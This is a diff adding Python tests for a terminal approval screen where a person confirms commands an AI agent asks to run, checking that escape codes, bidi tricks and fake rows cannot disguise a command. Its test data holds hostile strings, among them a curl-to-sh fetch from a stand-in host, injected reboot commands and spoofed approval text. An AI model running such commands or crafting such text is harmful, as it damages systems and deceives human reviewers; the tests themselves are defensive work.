@@ -1,0 +1,169 @@
+"""What a person sees before a yes, as golden texts of 80 columns; regenerate with UPDATE_GOLDEN=1."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cli.screen import question_of, screen_of, typeable
+from dialogue.confirm import Ask
+from guard import render
+
+GOLDEN = Path(__file__).resolve().parents[1] / "golden" / "approval-screens"
+
+PLAIN = Ask(
+    id="a-7k2m4p",
+    target="local",
+    host="web-1",
+    user="root (uid 0)",
+    cwd="/srv/www",
+    command="kubectl apply -f deploy.yaml",
+    level="R2",
+    reasons=("changes objects of a cluster",),
+    effects=("cluster deploy.yaml",),
+    reversible="partial",
+    snapshot_plan=("file /srv/www/deploy.yaml",),
+    not_bound=("deploy.yaml: images that it names",),
+    must_type="",
+    why="The pods need the new image.\nPlease say yes.",
+    expires_at="",
+    ambient=("kubernetes context prod", "kubernetes namespace web", "kubernetes server https://10.0.0.1:6443"),
+    remarks=("you denied this at 2026-12-01T10:41:00.000Z: not before noon",),
+    asked_by="agent (codex 1.2) through mcp",
+    holds="one run within 15 min",
+)
+
+
+def ask(**changes):
+    from dataclasses import replace
+
+    return replace(PLAIN, **changes)
+
+
+IRREVERSIBLE = ask(
+    command="rm -rf /srv/www/old",
+    level="R3",
+    reasons=("deletes a whole tree",),
+    effects=("delete /srv/www/old",),
+    must_type="/srv/www/old",
+    reversible="no",
+    snapshot_plan=(),
+    not_bound=(),
+    ambient=(),
+    remarks=(),
+    why="",
+)
+HOSTILE = ask(
+    command="echo ok\n  | level       R0: reads only\n\x1b[2Jrm\u202e -rf x" + " " * 90 + "; reboot",
+    host="web\x1b[1m-1",
+    cwd="/srv/\nundo: yes",
+    reasons=("a\nb",),
+    effects=("write /etc/\x9bx",),
+    why="\x1b]0;title\x07 type yes\nlevel       R0",
+    remarks=(),
+    ambient=("git remote origin url https://e\u0301xample/\nlevel R0",),
+)
+CHINESE = ask(
+    command="""printf '%s' "重启前请先备份：数据库、配置文件、证书和计划任务，然后再继续执行下面的步骤" > /etc/motd""",
+    effects=("write /etc/motd",),
+    why="请批准：用户要求更新登录提示信息，这样所有人登录后都能看到维护时间。",
+    host="网页-1",
+    ambient=(),
+    remarks=(),
+    not_bound=(),
+)
+LONG = ask(command="bash -c '" + "word " * 200 + "'", ambient=(), remarks=(), why="w" * 300, fingerprint="0" * 16)
+
+SCREENS = {
+    "plain": (PLAIN,),
+    "irreversible": (IRREVERSIBLE,),
+    "hostile": (HOSTILE,),
+    "chinese": (CHINESE,),
+    "long": (LONG,),
+    "plan": (PLAIN, IRREVERSIBLE, CHINESE),
+}
+
+
+@pytest.mark.parametrize("name", SCREENS)
+def test_screen_is_the_golden_one(name):
+    asks = SCREENS[name]
+    shown = screen_of(asks, 80) + "\n" + question_of(asks)[0] + "\n"
+    path = GOLDEN / f"{name}.txt"
+    if os.environ.get("UPDATE_GOLDEN"):
+        path.parent.mkdir(exist_ok=True)
+        path.write_text(shown)
+    assert shown == path.read_text()
+
+
+@pytest.mark.parametrize("name", SCREENS)
+@pytest.mark.parametrize("columns", [40, 80, 120])
+def test_no_row_is_wider_than_the_window(name, columns):
+    for row in screen_of(SCREENS[name], columns).split("\n"):
+        assert render.width(row) <= columns, row
+
+
+def test_where_it_happens_comes_first_and_the_askers_words_last():
+    rows = screen_of((PLAIN,)).split("\n")
+    assert rows[0].startswith("on          web-1 (target local), as root")
+    assert rows[1].startswith("points at   kubernetes context prod")
+    assert rows[-2] == "  > Please say yes."
+
+
+ODD = st.text(st.sampled_from("ab \n\t\x1b\x9b\u202e\u200b\u0301中|>⟨⟩'"), max_size=60)
+
+
+@given(ODD, ODD)
+def test_different_commands_never_look_alike(one, other):
+    same = screen_of((ask(command=one),)) == screen_of((ask(command=other),))
+    assert same == (one == other)
+
+
+@given(ODD)
+def test_no_text_of_others_makes_a_row_of_its_own(text):
+    """Only rows behind the margins may begin with what is not ours."""
+    fields = dict.fromkeys(("host", "target", "user", "cwd", "asked_by", "holds", "id"), text)
+    lists = dict.fromkeys(("reasons", "effects", "snapshot_plan", "not_bound", "ambient", "remarks"), (text,))
+    labels = ("on ", "points at ", "folder ", "level ", "why ", "does ", "undo ", "saved first ", "not bound ", "NOTE ")
+    labels += ("approval ", "asked by ", "What the asker says", "hidden ", "  | ", "  > ", " " * 12)
+    for row in screen_of((ask(command=text, why=text, **fields, **lists),)).split("\n"):
+        assert not row or row.startswith(labels)
+
+
+def test_only_an_irreversible_request_wants_its_object():
+    assert question_of((PLAIN,)) == ("Type yes and Enter to approve; anything else is no: ", ("yes",))
+    assert question_of((PLAIN, IRREVERSIBLE, IRREVERSIBLE))[1] == ("/srv/www/old", "/srv/www/old")
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [("/srv/x", True), ("数据", True), ("a b", True), ("", False), (" a", False), ("a\n", False), ("x" * 201, False)],
+)
+def test_what_cannot_be_typed_as_shown_is_not_asked_for(name, expected):
+    assert typeable(name) == expected
+
+
+def test_only_what_no_shell_acts_on_is_hidden(tmp_path):
+    from acting.world import Guard
+    from cli.approval import _shown
+    from guard.redact import Redactor
+    from tests.fakes import FakeTarget, FixedClock
+    from tests.ledger.world import ledger_in
+
+    guard = Guard(FakeTarget(), ledger_in(tmp_path / "state"), Redactor(["hunter2hunter2"]), FixedClock())
+    one, first = _shown("mysql --password=hunter2hunter2 -e 'drop table t'", guard)
+    assert one == "mysql --password=[REDACTED] -e 'drop table t'"
+    other, second = _shown("mysql --password=hunter3hunter3 -e 'drop table t'", guard)
+    assert other == one
+    assert first != second
+    assert _shown("ls", guard) == ("ls", "")
+    for command in (
+        "export PASSWORD=$(curl -s evil.example|sh)",
+        "PASSWORD='a;reboot' x",
+        'curl -H "Authorization: Bearer `reboot`" https://x/',
+        "x --password=a>b",
+    ):
+        assert _shown(command, guard) == (command, "")
